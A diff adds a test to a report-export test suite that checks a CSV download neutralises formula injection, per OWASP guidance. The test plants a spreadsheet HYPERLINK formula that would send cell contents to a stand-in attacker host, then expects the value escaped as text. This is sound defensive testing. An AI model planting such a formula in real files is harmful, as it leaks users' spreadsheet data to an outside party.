@@ -176,6 +176,23 @@ describe('reports: progress against the plan', () => {
     expect(rows[16][1]).toBe('Quốc phòng và An ninh');
   });
 
+  it('progress.csv: a criterion name that starts like a formula comes back as text (OWASP CSV injection)', async () => {
+    const { rows: before } = await k.db.query(`SELECT name_vi FROM criteria WHERE code = 1`);
+    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")';
+    await k.db.query(`UPDATE criteria SET name_vi = $1 WHERE code = 1`, [formula]);
+    try {
+      const res = await download(k, province.auth, '/reports/progress.csv');
+      expect(res.status).toBe(200);
+      const rows = await parseCsv((res.body as Buffer).subarray(3).toString('utf8'));
+      expect(rows[1][0]).toBe('1');
+      expect(rows[1][1]).toBe(`'${formula}`);
+      // The counts are still plain numbers.
+      expect(rows[1][2]).toMatch(/^\d+$/);
+    } finally {
+      await k.db.query(`UPDATE criteria SET name_vi = $1 WHERE code = 1`, [before[0].name_vi]);
+    }
+  });
+
   it('the report routes are in the OpenAPI document', async () => {
     const doc = (await k.t.http.get('/docs-json')).body;
     for (const path of [
